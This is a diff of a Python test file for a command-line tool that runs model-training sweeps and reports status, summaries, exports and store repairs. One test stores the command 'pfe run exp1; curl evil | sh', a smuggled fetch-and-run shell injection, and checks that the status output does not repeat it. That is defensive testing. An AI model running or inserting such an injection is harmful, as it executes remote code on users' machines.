@@ -3,6 +3,7 @@
 import csv
 import json
 import os
+import re
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -13,14 +14,14 @@ import pytest
 
 from lab_records import EXP1, studies_of
 from prime_models import modulus
-from primefourier import lab
+from primefourier import PAPER_BASIS, lab
 from primefourier.lab.config import prime_parts
 from primefourier.lab.store import STORE_NAME, write_store
 from primefourier.lab.sweep import Progress
 from small_models import small_config
 
 Pfe = Callable[..., tuple[int, str, str]]
-CONFIGS = [small_config(epochs=1, seed=seed) for seed in range(14)]
+CONFIGS = [small_config(epochs=1, seed=seed) for seed in range(2)]
 
 
 def test_status_counts_models_and_shows_failures(pfe: Pfe, paper: Path) -> None:
@@ -57,30 +58,24 @@ def test_status_without_a_folder_takes_the_newest_run(
     assert json.loads(pfe("status", "--json")[1])["folder"] == "results/new"
 
 
-def test_status_shows_a_running_sweep(pfe: Pfe, tmp_path: Path) -> None:
-    configs = [small_config(seed=seed, epochs=1) for seed in range(3)]
+def test_status_shows_a_running_sweep_and_how_to_continue_a_stopped_one(
+    pfe: Pfe, tmp_path: Path
+) -> None:
     seen = []
 
-    def observe(progress: Progress) -> None:
-        if progress.done == 2:
-            seen.append(json.loads(pfe("status", str(tmp_path), "--json")[1]))
-            seen.append(pfe("status", str(tmp_path))[1])
-
-    lab.run(configs, tmp_path, workers=0, command="pfe run mine", on_progress=observe)
-    data, text = seen
-    assert (data["planned"], data["done"], data["running"]) == (3, 2, True)
-    assert "Running: process" in text
-
-
-def test_a_stopped_sweep_shows_how_to_continue(pfe: Pfe, tmp_path: Path) -> None:
     def stop(progress: Progress) -> None:
         if progress.done == 1:
+            seen.append(json.loads(pfe("status", str(folder), "--json")[1]))
+            seen.append(pfe("status", str(folder))[1])
             raise KeyboardInterrupt
 
     configs = [small_config(modulus=p, epochs=1) for p in (3, 5, 7)]
     folder, command = tmp_path / "it's mine", "pfe run exp1; curl evil | sh"
     studies = studies_of(configs)
     assert lab.run(studies, folder, workers=0, command=command, on_progress=stop).interrupted
+    data, text = seen
+    assert (data["planned"], data["done"], data["running"]) == (3, 1, True)
+    assert "Running: process" in text
     code, out, _ = pfe("status", str(folder))
     assert (code, "curl" in out) == (0, False), "what a store says is no advice"
     assert out.endswith("\nNot running. To continue, run the same command again.\n")
@@ -135,6 +130,24 @@ def test_a_summary_has_a_line_per_configuration_the_worst_first(
     assert "exp1, 1 seed, rows 3 5 7 11\n" in shown
     assert "|P|=4 r=100" in shown
     assert max(map(len, (out + shown).splitlines())) <= 80
+
+
+def test_a_configuration_has_one_line_whatever_the_names_of_its_rows(
+    pfe: Pfe, tmp_path: Path
+) -> None:
+    """Names that do not fit beside the numbers stand below, by a sign."""
+    configs = [
+        small_config(primes=PAPER_BASIS.primes[:n], beyond=(60, 10**6, 10**18), epochs=1)
+        for n in (4, 16)
+    ]
+    lab.run([lab.Study("mine", configs)], tmp_path / "mine", workers=0)
+    out = pfe("summary", str(tmp_path / "mine"))[1]
+    assert "  2r  10^6  10^18  rows\n" in out, "in order of size, written alike"
+    assert [line.split()[-1] for line in out.splitlines() if "#" in line[50:]] == ["#1", "#2"]
+    words = " ".join(out.split())
+    for n in (4, 16):
+        assert re.search(rf"rows #[12]: {' '.join(map(str, PAPER_BASIS.primes[:n]))} ", words)
+    assert max(map(len, out.splitlines())) <= 80
 
 
 def test_a_summary_shows_the_worst_unless_all_are_requested(pfe: Pfe, tmp_path: Path) -> None:
@@ -193,9 +206,7 @@ def test_the_suffix_gives_the_format_unless_one_is_named(
     assert pfe("export", str(small), "--format", "csv", "--out", str(tmp_path / "x.txt"))[0] == 0
     assert (tmp_path / "x.txt").read_text().startswith("key,status,study,model,")
     for words, message in (
-        (["--format", "jsonl", "--out", str(tmp_path / "x.csv")], "do not agree"),
-        (["--out", str(tmp_path / "x.txt")], "--out must end in .jsonl, .csv, .parquet, got"),
-        (["--format", "xlsx"], "format must be 'jsonl', 'csv' or 'parquet'"),
+        (["--out", str(tmp_path / "x.xlsx")], "format must be 'jsonl', 'csv' or 'parquet'"),
         (["--out", str(tmp_path / "no" / "x.jsonl")], "there is no folder"),
         (["--out", str(small / STORE_NAME)], "holds the records themselves; choose another"),
     ):
@@ -204,7 +215,7 @@ def test_the_suffix_gives_the_format_unless_one_is_named(
 
 
 def test_a_damaged_store_is_repaired_and_the_damaged_file_kept(pfe: Pfe, tmp_path: Path) -> None:
-    lab.run(CONFIGS[:2], tmp_path, workers=0)
+    lab.run(CONFIGS, tmp_path, workers=0)
     intact = f"{tmp_path} is intact. 2 of 2 models are measured.\n"
     assert pfe("repair", str(tmp_path)) == (0, intact, "")
     whole = (tmp_path / STORE_NAME).read_bytes()
@@ -217,19 +228,7 @@ def test_a_damaged_store_is_repaired_and_the_damaged_file_kept(pfe: Pfe, tmp_pat
     assert f"the damaged file is kept as {STORE_NAME}.damaged-" in out
     assert (tmp_path / STORE_NAME).read_bytes() == whole
     assert pfe("status", str(tmp_path))[0] == 0
-
-
-def test_models_without_a_measurement_are_named(pfe: Pfe, tmp_path: Path) -> None:
-    lab.run(CONFIGS[:2], tmp_path, workers=0)
-    assert "is intact. 2 of 2 models are measured.\n" in pfe("repair", str(tmp_path))[1]
-    lab.run(CONFIGS, tmp_path, workers=0, device="no such device")
-    (tmp_path / STORE_NAME).write_bytes((tmp_path / STORE_NAME).read_bytes().replace(b"no s", b"x"))
-    code, out, _ = pfe("repair", str(tmp_path))
-    assert code == 0
-    assert "Line 22 of records.jsonl was damaged: it differs from what was written.\n" in out
-    assert "is repaired; the damaged file is kept as records.jsonl.damaged-" in out
-    assert "2 of 14 models are measured." in out
-    assert CONFIGS[2].describe() in out
-    assert "and 2 more" in out
-    assert out.endswith("Run the same command again to train them.\n")
-    assert "is intact. 2 of 14 models are measured.\n" in pfe("repair", str(tmp_path))[1]
+    (tmp_path / STORE_NAME).write_bytes(b'"seed":3'.join(whole.rsplit(b'"seed":1', 1)))
+    out = pfe("repair", str(tmp_path))[1]
+    assert "of records.jsonl was damaged: it differs from what was written.\n" in out
+    assert out.endswith("To train the others, run the same command again.\n")
